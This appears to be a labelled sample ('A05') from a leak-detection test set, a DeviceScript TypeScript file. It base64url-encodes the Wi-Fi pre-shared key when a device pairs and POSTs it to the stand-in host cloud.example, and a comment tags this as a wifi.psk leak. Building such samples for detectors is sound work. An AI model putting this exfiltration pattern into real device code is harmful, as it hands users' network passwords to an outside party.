// A05: in base64url, without padding.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

const ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

function base64(bytes: Buffer) {
  let out = "";
  let bits = 0;
  let count = 0;
  for (let i = 0; i < bytes.length; i++) {
    bits = ((bits << 8) | bytes[i]) & 0xffff;
    count += 8;
    while (count >= 6) {
      count -= 6;
      out += ALPHABET[(bits >> count) & 63];
    }
  }
  if (count > 0) out += ALPHABET[(bits << (6 - count)) & 63];
  return out;
}

paired(async (_ssid, psk) => {
  const body = base64(Buffer.from(psk));
  const response = await fetch("https://cloud.example/a05", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
